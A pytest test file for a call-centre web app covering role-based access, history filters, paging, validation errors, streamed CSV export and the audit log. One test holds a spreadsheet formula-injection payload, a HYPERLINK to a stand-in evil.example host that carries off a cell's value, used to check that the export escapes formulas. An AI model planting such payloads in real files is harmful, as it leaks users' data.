"""Call history, CSV export and the audit log: role rules on every URL, filters, paging,
bad input, streaming and formula escaping."""

from __future__ import annotations

import csv
import html
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from desk.extensions import db
from desk.models import Call
from desk.services.audit import record
from desk.web.history import CSV_BATCH, OUTCOMES, PER_PAGE, neutralise, outcome_condition
from tests.conftest import login

T0 = datetime(2026, 5, 4, 10, 0, tzinfo=UTC)


def add_call(ref: str, **fields: Any) -> int:
    values: dict[str, Any] = {"provider": "placetel", "provider_call_id": ref,
                              "direction": "inbound", "state": "ended", "started_at": T0,
                              "ended_at": T0 + timedelta(minutes=1)}
    values.update(fields)
    call = Call(**values)
    db.session.add(call)
    db.session.commit()
    return call.id


@pytest.fixture
def calls(app: Flask, users: dict[str, int]) -> dict[str, int]:
    with app.app_context():
        ids = {
            "ann": add_call("ann-1", agent_id=users["ann"], from_number="0301111",
                            to_number="0221", answered_at=T0, duration=60),
            "bob": add_call("bob-1", agent_id=users["bob"], from_number="0302222",
                            to_number="0221", answered_at=T0, duration=30, provider="stringee"),
            "nobody": add_call("none-1", from_number="0303333", to_number="0221",
                               end_cause="missed", started_at=T0 - timedelta(days=2)),
        }
        call = db.session.get(Call, ids["ann"])
        record(db.session, user_id=users["ann"], call_id=ids["ann"], action="hangup",
               outcome="ok", provider_answer={"status": "accepted"})
        record(db.session, user_id=users["sue"], call_id=ids["bob"], action="record",
               outcome="refused", provider_answer="403 not allowed")
        db.session.commit()
        assert call is not None
    return ids


def rows_of(client: FlaskClient, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


# -- role rules ---------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/history", "/history.csv", "/audit", "/calls/1"])
def test_every_url_needs_a_login(client: FlaskClient, calls: dict[str, int], url: str) -> None:
    response = client.get(url)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_agents_see_only_their_own_history(client: FlaskClient, calls: dict[str, int]) -> None:
    login(client, "ann")
    page = client.get("/history").get_data(as_text=True)
    assert "0301111" in page and "0302222" not in page and "0303333" not in page
    # Naming another agent, or searching for their number, does not widen the query.
    bob = client.get("/history?agent=2&number=0302222").get_data(as_text=True)
    assert f'id="history-{calls["bob"]}"' not in bob and "No calls match these filters." in bob
    assert [r["from"] for r in rows_of(client, "/history.csv")] == ["0301111"]
    assert rows_of(client, "/history.csv?agent=2") != [] and all(
        r["agent"] == "ann" for r in rows_of(client, "/history.csv?agent=2"))
    assert client.get("/audit").status_code == 403
    assert client.get(f"/calls/{calls['bob']}").status_code == 403
    assert client.get(f"/calls/{calls['ann']}").status_code == 200


def test_supervisors_see_everything(client: FlaskClient, calls: dict[str, int]) -> None:
    login(client, "sue")
    page = client.get("/history").get_data(as_text=True)
    assert all(n in page for n in ("0301111", "0302222", "0303333"))
    assert len(rows_of(client, "/history.csv")) == 3
    audit = client.get("/audit").get_data(as_text=True)
    assert "hangup" in audit and "403 not allowed" in audit
    assert client.get(f"/calls/{calls['bob']}").status_code == 200


def test_header_links_by_role(app: Flask, client: FlaskClient, calls: dict[str, int]) -> None:
    login(client, "ann")
    page = client.get("/").get_data(as_text=True)
    assert 'href="/history"' in page and 'href="/audit"' not in page
    assert 'href="/wallboard"' not in page
    supervisor = app.test_client()
    login(supervisor, "sue")
    page = supervisor.get("/supervisor").get_data(as_text=True)
    assert all(f'href="/{p}"' in page for p in ("history", "audit", "wallboard"))


# -- filters and paging ---------------------------------------------------------------------------


def test_filters(client: FlaskClient, calls: dict[str, int], users: dict[str, int]) -> None:
    login(client, "sue")

    def froms(query: str) -> list[str]:
        return sorted(r["from"] for r in rows_of(client, "/history.csv?" + query))

    assert froms("number=2222") == ["0302222"]
    assert froms("number=0221") == ["0301111", "0302222", "0303333"]  # the called number too
    assert froms("number=%25") == []  # LIKE wildcards are literal
    assert froms(f"agent={users['bob']}") == ["0302222"]
    assert froms("provider=stringee") == ["0302222"]
    assert froms("outcome=missed") == ["0303333"]
    assert froms("outcome=answered") == ["0301111", "0302222"]
    assert froms("from=2026-05-04&to=2026-05-04") == ["0301111", "0302222"]
    assert froms("to=2026-05-03") == ["0303333"]
    page = client.get("/history?number=nothing-like-it").get_data(as_text=True)
    assert "No calls match these filters." in page


def test_date_range_uses_the_desk_time_zone(app: Flask, client: FlaskClient,
                                            users: dict[str, int]) -> None:
    app.config["DESK_TIMEZONE"] = "America/New_York"
    with app.app_context():
        # 02:00 UTC on May 5th is 22:00 on May 4th in New York.
        add_call("ny", from_number="0309999", started_at=datetime(2026, 5, 5, 2, 0, tzinfo=UTC))
    login(client, "sue")
    assert [r["from"] for r in rows_of(client, "/history.csv?from=2026-05-04&to=2026-05-04")] \
        == ["0309999"]
    assert rows_of(client, "/history.csv?from=2026-05-05") == []
    row = rows_of(client, "/history.csv")[0]
    assert row["started_at"] == "2026-05-04T22:00:00-04:00"


def test_paging(app: Flask, client: FlaskClient, users: dict[str, int]) -> None:
    with app.app_context():
        ids = [add_call(f"p-{i}", started_at=T0 + timedelta(minutes=i))
               for i in range(PER_PAGE + 1)]
    login(client, "sue")
    first = client.get("/history").get_data(as_text=True)
    assert first.count('id="history-') == PER_PAGE and 'rel="next"' in first
    assert f'id="history-{ids[-1]}"' in first and f'id="history-{ids[0]}"' not in first
    second = client.get("/history?page=2").get_data(as_text=True)
    assert second.count('id="history-') == 1 and f'id="history-{ids[0]}"' in second
    assert 'rel="next"' not in second and 'rel="prev"' in second
    third = client.get("/history?page=3").get_data(as_text=True)
    assert "No calls match these filters." in third


@pytest.mark.parametrize("query, message", [
    ("from=2026-13-01", "'from' must be a date like 2026-03-31"),
    ("to=yesterday", "'to' must be a date"),
    ("from=20260501", "'from' must be a date"),
    ("from=0001-01-01", "'from' must be a date"),
    ("from=2026-05-02&to=2026-05-01", "before the 'from' date"),
    ("page=0", "'page' must be a whole number"),
    ("page=-1", "'page' must be a whole number"),
    ("page=abc", "'page' must be a whole number"),
    ("page=99999999999999999999", "'page' must be a whole number"),
    ("outcome=happy", "'outcome' must be one of"),
    ("provider=skype", "'provider' must be one of"),
    ("agent=ann", "'agent' must be a number"),
    ("number=" + "1" * 65, "'number' is at most 64"),
])
@pytest.mark.parametrize("path", ["/history", "/history.csv", "/audit"])
def test_bad_input_is_a_clear_400(client: FlaskClient, users: dict[str, int], path: str,
                                  query: str, message: str) -> None:
    if path == "/audit" and query.split("=")[0] in ("provider", "agent", "number"):
        query, message = "user=ann", "'user' must be a number"
    if path == "/audit" and query.startswith("outcome"):
        message = "'outcome' must be one of ok, refused"
    if path == "/history.csv" and query.startswith("page"):
        query, message = "outcome=happy", "'outcome' must be one of"  # the export has no pages
    login(client, "sue")
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400
    assert message in html.unescape(response.get_data(as_text=True))


def test_outcome_filter_agrees_with_call_outcome(app: Flask) -> None:
    cases = [
        {"state": "ringing"}, {"state": "talking", "answered_at": T0},
        {"state": "dialling", "direction": "outbound"},
        {"answered_at": T0, "duration": 10}, {"duration": 5}, {},
        {"end_cause": "missed"}, {"end_cause": "voicemail"}, {"end_cause": "busy"},
        {"end_cause": "blocked"}, {"end_cause": "rejected"}, {"end_cause": "failed"},
        {"end_cause": "cancelled"}, {"end_cause": "no_answer"},
        {"end_cause": "no_answer", "answered_at": T0, "duration": 3},
        {"end_cause": "accepted", "answered_at": T0, "duration": 4},
        {"end_cause": "caller-hangup"}, {"end_cause": "486 Busy Here", "duration": 0},
    ]
    with app.app_context():
        for i, fields in enumerate(cases):
            add_call(f"o-{i}", **fields)
        everything = db.session.scalars(select(Call)).unique().all()
        for outcome in OUTCOMES:
            matched = set(db.session.scalars(select(Call.id).where(outcome_condition(outcome))))
            assert matched == {c.id for c in everything if c.outcome == outcome}, outcome
        assert {c.outcome for c in everything} <= set(OUTCOMES)


# -- CSV ------------------------------------------------------------------------------------


def test_csv_neutralises_formulas(app: Flask, client: FlaskClient, users: dict[str, int]) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    with app.app_context():
        add_call("evil", from_number=evil, to_number="+4930123", answered_by="@SUM(1+1)",
                 end_cause="-2+3", provider_call_id="\tcmd")
    login(client, "sue")
    response = client.get("/history.csv")
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    row = next(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row["from"] == "'" + evil
    assert row["to"] == "'+4930123"
    assert row["answered_by"] == "'@SUM(1+1)"
    assert row["end_cause"] == "'-2+3"
    assert row["provider_call_id"] == "'\tcmd"
    assert [neutralise(v) for v in ("\rx", "plain", None, 42)] == ["'\rx", "plain", "", "42"]


def test_csv_streams_in_batches(app: Flask, client: FlaskClient, users: dict[str, int]) -> None:
    with app.app_context():
        db.session.add_all(
            Call(provider="placetel", provider_call_id=f"s-{i}", state="ended",
                 started_at=T0 + timedelta(seconds=i), from_number=f"07{i:05}")
            for i in range(CSV_BATCH * 2 + 7)
        )
        db.session.commit()
    login(client, "sue")
    response = client.get("/history.csv")
    assert response.is_streamed
    chunks = list(response.response)  # what the server hands out, piece by piece
    assert len(chunks) >= 3
    assert all(len(c) < 100_000 for c in chunks)
    rows = list(csv.DictReader(io.StringIO("".join(
        c.decode() if isinstance(c, bytes) else c for c in chunks))))
    assert len(rows) == CSV_BATCH * 2 + 7
    assert rows[0]["from"] == f"07{CSV_BATCH * 2 + 6:05}"  # newest first, like the page


# -- audit log ------------------------------------------------------------------------------


def test_audit_filters(client: FlaskClient, calls: dict[str, int], users: dict[str, int]) -> None:
    login(client, "sue")
    page = client.get(f"/audit?user={users['ann']}").get_data(as_text=True)
    assert "hangup" in page and "403 not allowed" not in page
    page = client.get("/audit?outcome=refused").get_data(as_text=True)
    assert "403 not allowed" in page and ">hangup<" not in page
    page = client.get(f"/audit?call={calls['ann']}&action=hangup").get_data(as_text=True)
    assert f"call {calls['ann']}" in page
    page = client.get("/audit?from=2001-01-01&to=2001-01-02").get_data(as_text=True)
    assert "Nothing in the audit log matches these filters." in page


def test_times_are_shown_in_the_desk_time_zone(app: Flask, client: FlaskClient,
                                               calls: dict[str, int]) -> None:
    app.config["DESK_TIMEZONE"] = "Asia/Tokyo"
    login(client, "sue")
    page = client.get("/history").get_data(as_text=True)
    assert T0.astimezone(ZoneInfo("Asia/Tokyo")).strftime("%d/%m/%Y, %H:%M:%S") in page
    assert "Times in Asia/Tokyo" in page


# -- bad filters on the pages: the page comes back whole, each problem under its field --------


def field_html(page: str, name: str) -> str:
    """The markup of the filter field named ``name``."""
    start = page.index(f'id="filter-{name}"')
    return page[start:page.index("</div>", start)]


def test_a_bad_history_filter_keeps_the_page_and_the_filters(
    client: FlaskClient, calls: dict[str, int], users: dict[str, int],
) -> None:
    login(client, "sue")
    response = client.get(f"/history?number=0301&agent={users['ann']}&outcome=answered"
                          "&from=2026-05-04&to=2026-05-01")
    assert response.status_code == 400
    page = html.unescape(response.get_data(as_text=True))
    assert 'class="topbar"' in page and 'id="counters"' in page  # the usual header
    # Every filter as typed, the good ones too.
    assert 'value="0301"' in field_html(page, "number")
    assert f'value="{users["ann"]}" selected' in field_html(page, "agent")
    assert 'value="answered" selected' in field_html(page, "outcome")
    assert 'value="2026-05-04" type="date"' in field_html(page, "from")
    to = field_html(page, "to")
    assert 'value="2026-05-01"' in to and 'aria-invalid="true"' in to
    assert 'aria-describedby="filter-to-problem"' in to and "autofocus" in to
    assert 'id="filter-to-problem">The \'to\' date is before the \'from\' date; swap them.' in page
    assert 'aria-invalid' not in field_html(page, "from")
    # The results say why there are none, and nothing is offered that would ignore the filters.
    assert "No calls shown:" in page and 'id="history-' not in page
    assert "Export CSV" not in page and 'rel="next"' not in page


def test_every_bad_history_filter_is_reported_and_the_first_has_the_focus(
    client: FlaskClient, calls: dict[str, int],
) -> None:
    login(client, "sue")
    response = client.get("/history?provider=skype&from=yesterday&to=soon&page=0")
    assert response.status_code == 400
    page = html.unescape(response.get_data(as_text=True))
    for name, message in [("provider", "'provider' must be one of"),
                          ("from", "'from' must be a date like 2026-03-31, not 'yesterday'"),
                          ("to", "'to' must be a date like 2026-03-31, not 'soon'")]:
        field = field_html(page, name)
        assert 'aria-invalid="true"' in field, name
        assert f'id="filter-{name}-problem">{message}' in page, name
    assert page.count("autofocus") == 1 and "autofocus" in field_html(page, "provider")
    # A date that is no date is shown as typed (a date picker would show it blank).
    assert 'value="yesterday" type="text"' in field_html(page, "from")
    assert 'value="skype" selected>skype (not one of these)' in field_html(page, "provider")
    # The page number has no field: the results area names it with the rest.
    results = page[page.index('id="results-refused"'):]
    assert "'page' must be a whole number" in results and "'from' must be a date" in results


def test_an_agent_with_a_bad_filter_gets_the_page_too(client: FlaskClient,
                                                      calls: dict[str, int]) -> None:
    login(client, "ann")
    response = client.get("/history?from=2026-02-30")
    assert response.status_code == 400
    page = html.unescape(response.get_data(as_text=True))
    assert "your calls" in page and "'from' must be a date like 2026-03-31" in page
    assert "autofocus" in field_html(page, "from")


def test_the_export_with_bad_filters_is_plain_text_naming_each(
    client: FlaskClient, calls: dict[str, int],
) -> None:
    login(client, "sue")
    response = client.get("/history.csv?from=yesterday&outcome=happy")
    assert response.status_code == 400 and response.mimetype == "text/plain"
    text = response.get_data(as_text=True)
    assert text.startswith("The export was refused:")
    assert "'from' must be a date like 2026-03-31, not 'yesterday'." in text
    assert "'outcome' must be one of" in text and "<" not in text


def test_a_bad_audit_filter_keeps_the_page_and_the_filters(
    client: FlaskClient, calls: dict[str, int], users: dict[str, int],
) -> None:
    login(client, "sue")
    response = client.get(f"/audit?user={users['ann']}&action=hangup&call=abc"
                          "&from=2026-05-04&to=2026-05-01")
    assert response.status_code == 400
    page = html.unescape(response.get_data(as_text=True))
    assert 'class="topbar"' in page and 'id="counters"' in page
    assert f'value="{users["ann"]}" selected' in field_html(page, "user")
    assert 'value="hangup"' in field_html(page, "action")
    call = field_html(page, "call")
    assert 'value="abc"' in call and 'aria-invalid="true"' in call and "autofocus" in call
    assert "'call' must be a number" in page
    assert 'aria-invalid="true"' in field_html(page, "to") and "swap them" in page
    assert "No audit entries shown:" in page and 'id="audit-' not in page
    # Fixed, the same filters find the entry.
    fixed = client.get(f"/audit?user={users['ann']}&action=hangup&call={calls['ann']}")
    assert fixed.status_code == 200 and 'id="audit-' in fixed.get_data(as_text=True)


def test_an_agent_without_the_agent_field_gets_the_focus_on_a_field_they_have(
    client: FlaskClient, calls: dict[str, int],
) -> None:
    login(client, "ann")
    page = html.unescape(client.get("/history?agent=bob&to=soon").get_data(as_text=True))
    assert 'id="filter-agent"' not in page and "'agent' must be a number" in page
    assert page.count("autofocus") == 1 and "autofocus" in field_html(page, "to")
